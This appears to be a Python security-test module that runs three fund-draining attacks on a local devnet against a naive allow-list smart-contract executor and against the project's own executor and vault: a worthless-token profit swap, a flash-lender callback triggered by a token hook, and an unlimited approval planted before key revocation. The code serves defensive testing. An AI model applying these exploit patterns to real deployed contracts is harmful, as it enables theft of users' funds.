"""Three attacks that empty an executor with an allow-list, tried for real on the executor and its vault.

Each is made twice, in transactions on a devnet: on `AllowListExecutor`, the design that most people would
write, to show that it is an attack; and on an executor and a vault with the very code that is shipped. The
thief has a contract that is handed control wherever that can be, and the operator's key where it is stolen.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from keeper.abi import load
from keeper.contracts import executor, executor_creation_code, vault, vault_creation_code
from keeper.devnet import accounts
from keeper.devnet.artifact import Interface
from keeper.devnet.chain import Chain, Contract, Failed
from keeper.devnet.compile import Compiled, compile_sources, read_sources
from keeper.devnet.devnet import Devnet
from keeper.domain.address import Address
from keeper.domain.calls import Callback, ContractCall, Spend
from keeper.planner.calldata import Leg, Program, Step, execute_calldata

STOCK_WEI = 100 * 10**18
"""What lies there to be taken."""
PROFIT_WEI = 10**18
"""What each honest program earns."""

_WORTHLESS_RAW = 10**30
_LOAN_RAW = 1_000
_MOST = 2**256 - 1
_FAR_S = 2**40 - 1
_TRUE = (1).to_bytes(32, "big")
_NOTHING = b"\0\0\0\0"
"""Data that says nothing: it only hands over control."""


@dataclass(frozen=True, slots=True, kw_only=True)
class AttackResult:
    """What an attack took, in wei of wrapped native: from the executor and its vault, and from the other."""

    name: str
    explanation: str
    taken_wei: int
    taken_from_allow_list_wei: int


def run_attacks(devnet: Devnet) -> list[AttackResult]:
    """Make the three attacks, and return what each took. Nothing that was on the devnet before is touched.

    Takes some sixty blocks, a second apart; transactions are mined at once meanwhile.
    """
    rpc = devnet.anvil.rpc
    automine = rpc("anvil_getAutomine")
    rpc("evm_setAutomine", True)
    try:
        return [
            AttackResult(
                name="a profit in another token",
                explanation="With the key, the stock is sold for a token that the thief has made, and which "
                "counts as the profit. The vault counts its own balance, and takes nothing else for it.",
                taken_wei=_pay_in_another_token(_Ours(devnet)),
                taken_from_allow_list_wei=_pay_allow_list_in_another_token(_Older(devnet)),
            ),
            AttackResult(
                name="a lender made to call back",
                explanation="A token's transfer hook has the expected lender call the executor, within an "
                "honest program, with the thief's program. The executor expects the hash of its own.",
                taken_wei=_make_lender_call_back(_Ours(devnet)),
                taken_from_allow_list_wei=_make_allow_lists_lender_call_back(_Older(devnet)),
            ),
            AttackResult(
                name="an approval planted before the key is revoked",
                explanation="With the key, the thief has the executor approve it, waits until the key is "
                "revoked, and skims the next operator's programs. Approvals end with the step that needs "
                "them, and a key is revoked by replacing the executor.",
                taken_wei=_plant_approval(_Ours(devnet)),
                taken_from_allow_list_wei=_plant_approval_in_allow_list(_Older(devnet)),
            ),
        ]
    finally:
        rpc("evm_setAutomine", automine)


def compile_attackers() -> Compiled:
    """Return all contracts of the attacks: ten seconds' work where it was never done."""
    sources = read_sources("contracts/src", "contracts/test", "contracts/devnet")
    return compile_sources(sources, settings=executor().settings)


class _Scene:
    """Markets, people, and a thief's contract, all made for one attack."""

    def __init__(self, devnet: Devnet) -> None:
        self.chain: Chain = devnet.chain
        self.weth: Contract = devnet.contract(devnet.addresses.weth, _interface("TestWrappedNative"))
        self.bank = devnet.market.address
        self.owner = devnet.owner.address
        self.thief = devnet.attacker.address
        self.operator = accounts.account(8).address
        self.next_operator = accounts.account(9).address

        self.thiefs_contract = self.deploy("Attacker", self.thief)
        self.bazaar = self.deploy("Bazaar", self.bank)
        self.lender = self.deploy("Market", self.bank)
        self.market = self.deploy("Market", self.bank)
        self.worthless = self.deploy("TestToken", self.thief)
        self.worthless.send("mint", self.thief, _WORTHLESS_RAW, sender=self.thief)
        self.worthless.send("approve", self.bazaar, _MOST, sender=self.thief)
        self.hooked = self.deploy("HookToken", self.bank)
        self.hooked.send("setStranger", self.thiefs_contract, sender=self.thief)
        self.market.send("setStranger", self.thiefs_contract, sender=self.thief)
        self.hooked.send("mint", self.lender, _WORTHLESS_RAW, sender=self.bank)
        self.give_weth(self.market.address, 2 * PROFIT_WEI)
        self._had_wei = self._has_wei()

    def deploy(self, name: str, sender: Address) -> Contract:
        return self.chain.deploy(compile_attackers()[name], sender=sender)

    def give_weth(self, to: Address, amount_wei: int) -> None:
        self.weth.send("deposit", sender=self.bank, value_wei=amount_wei)
        self.weth.send("transfer", to, amount_wei, sender=self.bank)

    def arm(self, *strikes: tuple[Contract, bytes]) -> None:
        """Have the thief's contract make these calls in turn, one each time it is handed control."""
        told = [(target, 0, data, False) for target, data in strikes]
        self.thiefs_contract.send("arm", told, sender=self.thief)

    def attempt(self, sender: Address, to: Address, data: bytes) -> bool:
        """Send a transaction, and return whether it succeeded."""
        return bool(self.chain.receipt(self.chain.post(sender, to, data))["status"] == "0x1")

    def take_from(self, holder: Address, amount_wei: int) -> tuple[Contract, bytes]:
        """Return the call by which the thief's contract takes what it has been approved."""
        thief = self.thiefs_contract.address
        return self.weth, self.weth.interface.encode("transferFrom", holder, thief, amount_wei)

    @property
    def taken_wei(self) -> int:
        """Return what the thief has gained."""
        return self._has_wei() - self._had_wei

    def _has_wei(self) -> int:
        holders = (self.thief, self.thiefs_contract)
        return sum(int(self.weth.call("balanceOf", holder)) for holder in holders)


# --- the executor and the vault


class _Ours(_Scene):
    """A vault with a stock, which it lends to an executor; both of the code that is shipped."""

    def __init__(self, devnet: Devnet) -> None:
        super().__init__(devnet)
        code = vault_creation_code(owner=self.owner)
        self.vault = self._create(code, Interface(vault().abi))
        self.executor = self.new_executor(self.operator)
        self.vault.send("setCap", self.weth, STOCK_WEI, sender=self.owner)
        self.give_weth(self.vault.address, STOCK_WEI)

    def new_executor(self, operator: Address) -> Contract:
        """Return another executor before the same vault, and the only one that it lends to from then on."""
        code = executor_creation_code(
            operator=operator, vault=self.vault.address, wrapped_native=self.weth.address
        )
        created = self._create(code, Interface(executor().abi))
        if hasattr(self, "executor"):
            self.vault.send("setLendsTo", self.executor, False, sender=self.owner)
        self.vault.send("setLendsTo", created, True, sender=self.owner)
        return created

    def _create(self, code: bytes, abi: Interface) -> Contract:
        created = self.chain.receipt(self.chain.send(self.owner, None, code))["contractAddress"]
        return self.chain.contract(Address(bytes.fromhex(created[2:])), abi)

    def run_honest(self, *steps: Step, operator: Address) -> None:
        """Send a program that is to earn its profit among thieves. Raises Failed where it does not."""
        if not self.run(*steps, floor_wei=PROFIT_WEI, operator=operator):
            raise Failed("an honest program earned nothing")

    def run(self, *steps: Step, floor_wei: int, operator: Address) -> bool:
        """Send a program to the executor, and return whether it succeeded."""
        program = Program(
            wrapped_native=self.weth.address,
            deadline_s=_FAR_S,
            floor_wei=floor_wei,
            legs=(Leg(steps=steps),),
            touched=(self.hooked.address, self.worthless.address),
        )
        return self.attempt(operator, self.executor.address, execute_calldata(program))

    def earn(self) -> Step:
        """Return a step that brings the executor a profit, and hands control to the thief at once."""
        return _step(self.market, "trade", self.hooked, 0, self.weth, PROFIT_WEI)

    def borrow(self, *inside: Step) -> Step:
        """Return an honest loan of the token with a hook."""
        data = self.lender.interface.encode("flashLoanSimple", self.executor, self.hooked, _LOAN_RAW, b"", 0)
        callback = Callback(
            caller=self.lender.address,
            selector=load("aave_v3_flash_receiver").function("executeOperation").selector,
            program_argument=4,
            initiator_argument=3,
            answer=_TRUE,
            repay=Spend(token=self.hooked.address, amount_raw=_LOAN_RAW + 1),
        )
        return Step(
            call=ContractCall(target=self.lender.address, data=data, callback=callback), inside=inside
        )


def _pay_in_another_token(scene: _Ours) -> int:
    sell = _step(scene.bazaar, "trade", scene.thief, scene.weth, STOCK_WEI, scene.worthless, _WORTHLESS_RAW)
    approved = ContractCall(
        target=sell.call.target,
        data=sell.call.data,
        spend=Spend(token=scene.weth.address, amount_raw=STOCK_WEI),
    )
    pay = _step(scene.worthless, "transfer", scene.vault, _WORTHLESS_RAW)
    borrow = ContractCall(
        target=scene.vault.address,
        data=scene.vault.interface.encode("lend", scene.weth, STOCK_WEI, b""),
        callback=Callback(
            caller=scene.vault.address,
            selector=_selector("IVaultBorrower", "onVaultLoan", bytes(20), 0, b""),
            program_argument=2,
            initiator_argument=None,
            answer=b"",
            repay=None,
        ),
    )
    scene.run(Step(call=borrow, inside=(Step(call=approved), pay)), floor_wei=0, operator=scene.operator)
    return scene.taken_wei


def _make_lender_call_back(scene: _Ours) -> int:
    thief = scene.thiefs_contract.address
    transfer = scene.weth.interface.encode("transfer", thief, PROFIT_WEI)
    # a callback's program: answer true, approve nothing, no guards, one plain step to index 0, wrapped native
    program = b"\x20" + _TRUE + b"\0\0\1" + b"\0\0" + len(transfer).to_bytes(2, "big") + transfer
    loan = scene.lender.interface.encode("flashLoanSimple", scene.executor, scene.weth, 0, program, 0)
    scene.arm(
        (scene.lender, loan),
        scene.take_from(scene.executor.address, PROFIT_WEI),
        scene.take_from(scene.vault.address, STOCK_WEI),
    )
    scene.hooked.send("mint", scene.executor, 1, sender=scene.bank)  # the loan's premium
    scene.run_honest(scene.borrow(scene.earn()), operator=scene.operator)
    return scene.taken_wei


def _plant_approval(scene: _Ours) -> int:
    thief = scene.thiefs_contract
    approve = _step(scene.weth, "approve", thief, _MOST)
    spend = ContractCall(
        target=thief.address, data=_NOTHING, spend=Spend(token=scene.weth.address, amount_raw=_MOST)
    )
    as_lender = ContractCall(
        target=thief.address,
        data=scene.lender.interface.encode("flashLoanSimple", scene.executor, scene.weth, 0, b"", 0),
        callback=Callback(
            caller=thief.address,
            selector=_NOTHING,
            program_argument=0,
            initiator_argument=None,
            answer=b"",
            repay=Spend(token=scene.weth.address, amount_raw=_MOST),
        ),
    )
    # the program that the thief, as the lender, is to hand back: no answer, the repayment, no steps
    repayment = b"\0" + b"\x20" + _MOST.to_bytes(32, "big")
    committed = b"\0" + len(repayment).to_bytes(1, "big") + repayment + b"\0\0"
    call_back = _NOTHING + (32).to_bytes(32, "big") + len(committed).to_bytes(32, "big") + committed
    for program, strike in ((approve.call, _NOTHING), (spend, _NOTHING), (as_lender, call_back)):
        scene.arm((scene.executor, strike))
        scene.run(Step(call=program), floor_wei=0, operator=scene.operator)

    for operator in (scene.operator, scene.next_operator):
        if operator == scene.next_operator:
            scene.executor = scene.new_executor(operator)
        scene.arm(scene.take_from(scene.executor.address, PROFIT_WEI))
        scene.run_honest(scene.earn(), operator=operator)
    return scene.taken_wei


# --- the design with an allow-list


class _Older(_Scene):
    """An executor with an allow-list that holds its stock itself."""

    def __init__(self, devnet: Devnet) -> None:
        super().__init__(devnet)
        self.executor = self.deploy("AllowListExecutor", self.owner)
        self.executor.send("setOperator", self.operator, True, sender=self.owner)
        self.executor.send("setLender", self.lender, sender=self.owner)
        for target, name, arguments in (
            (self.weth, "approve", (self.thief, 0)),
            (self.hooked, "approve", (self.thief, 0)),
            (self.bazaar, "trade", (self.thief, self.weth, 0, self.weth, 0)),
            (self.market, "trade", (self.weth, 0, self.weth, 0)),
            (self.lender, "flashLoanSimple", (self.thief, self.weth, 0, b"", 0)),
        ):
            selector = target.interface.encode(name, *arguments)[:4]
            self.executor.send("allow", target, selector, sender=self.owner)

    def run(
        self, *calls: tuple[Contract, bytes], counted_in: Contract, least: int, sender: Address | None = None
    ) -> bool:
        """Send calls to the executor, from its operator, and return whether they succeeded."""
        data = self.executor.interface.encode("execute", list(calls), counted_in, least)
        return self.attempt(sender or self.operator, self.executor.address, data)

    def encoded(self, calls: Sequence[tuple[Contract, bytes]]) -> bytes:
        """Return calls as they travel through a lender."""
        arguments = self.executor.interface.encode("execute", list(calls), self.weth, 0)[4:]
        # the array's own encoding follows the three words of the head; alone, its offset is one word
        return (32).to_bytes(32, "big") + arguments[96:]


def _pay_allow_list_in_another_token(scene: _Older) -> int:
    scene.give_weth(scene.executor.address, STOCK_WEI)
    trade = (scene.thief, scene.weth, STOCK_WEI, scene.worthless, _WORTHLESS_RAW)
    scene.run(
        (scene.weth, scene.weth.interface.encode("approve", scene.bazaar, STOCK_WEI)),
        (scene.bazaar, scene.bazaar.interface.encode("trade", *trade)),
        counted_in=scene.worthless,
        least=1,
    )
    return scene.taken_wei


def _make_allow_lists_lender_call_back(scene: _Older) -> int:
    scene.give_weth(scene.executor.address, STOCK_WEI)
    plant = (scene.weth, scene.weth.interface.encode("approve", scene.thiefs_contract, _MOST))
    loan = (scene.executor, scene.weth, 0, scene.encoded([plant]), 0)
    scene.arm((scene.lender, scene.lender.interface.encode("flashLoanSimple", *loan)))
    repay = (scene.hooked, scene.hooked.interface.encode("approve", scene.lender, _LOAN_RAW + 1))
    honest = (scene.executor, scene.hooked, _LOAN_RAW, scene.encoded([repay]), 0)
    scene.hooked.send("mint", scene.executor, 1, sender=scene.bank)  # the loan's premium
    scene.run(
        (scene.lender, scene.lender.interface.encode("flashLoanSimple", *honest)),
        counted_in=scene.weth,
        least=0,
    )
    scene.arm(scene.take_from(scene.executor.address, STOCK_WEI))
    scene.attempt(scene.thief, scene.thiefs_contract.address, _NOTHING)
    return scene.taken_wei


def _plant_approval_in_allow_list(scene: _Older) -> int:
    plant = (scene.weth, scene.weth.interface.encode("approve", scene.thiefs_contract, _MOST))
    scene.run(plant, counted_in=scene.weth, least=0)
    scene.executor.send("setOperator", scene.operator, False, sender=scene.owner)
    scene.executor.send("setOperator", scene.next_operator, True, sender=scene.owner)
    scene.arm()
    earn = scene.market.interface.encode("trade", scene.hooked, 0, scene.weth, PROFIT_WEI)
    scene.run((scene.market, earn), counted_in=scene.weth, least=PROFIT_WEI, sender=scene.next_operator)
    scene.arm(scene.take_from(scene.executor.address, PROFIT_WEI))
    scene.attempt(scene.thief, scene.thiefs_contract.address, _NOTHING)
    return scene.taken_wei


# --- encoding


def _step(target: Contract, name: str, *arguments: object) -> Step:
    return Step(call=ContractCall(target=target.address, data=target.interface.encode(name, *arguments)))


def _interface(name: str) -> Interface:
    return compile_attackers()[name].interface


def _selector(name: str, function: str, *arguments: object) -> bytes:
    return _interface(name).encode(function, *arguments)[:4]
